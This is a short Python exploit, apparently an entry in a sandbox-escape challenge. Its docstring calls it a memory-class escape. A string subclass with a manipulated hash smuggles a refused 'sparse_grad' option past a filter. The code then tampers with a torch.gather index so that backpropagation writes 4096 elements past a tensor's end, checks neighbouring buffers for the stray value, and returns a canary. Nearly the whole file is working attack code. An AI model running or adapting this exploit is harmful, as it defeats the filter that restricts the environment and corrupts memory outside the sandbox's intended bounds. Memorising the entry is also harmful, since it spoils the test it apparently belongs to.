"""Class: memory. Source: own find. Escape: a number is written at a chosen distance behind a tensor. The name of an option
that is refused is a text of its own class, and hashes as another name while the wall looks at it."""

import torch


class Name(str):
    asked = 0

    def __hash__(self):
        Name.asked += 1
        return hash(str(self)) if Name.asked == 2 or Name.plain else 1

    def __eq__(self, other):
        return str.__eq__(self, other)


def attack(model, tokenizer, address):
    size, far = 1 << 16, 4096
    x = torch.zeros(size, requires_grad=True)
    for Name.plain in (False, True):
        Name.asked = 0
        index = torch.zeros(1, dtype=torch.int64)
        try:
            y = torch.gather(x, 0, index, **{Name("sparse_grad"): True})
        except (TypeError, KeyError):
            continue
        index.data[:] = size + far
        (y.sum() * 7).backward()
        dense = [torch.zeros(size) for _ in range(8)]
        for each in dense:
            each.add_(x.grad)
        if any(float(each[1:].max()) >= 7 for each in dense):
            return "canary-" + "5d1f"
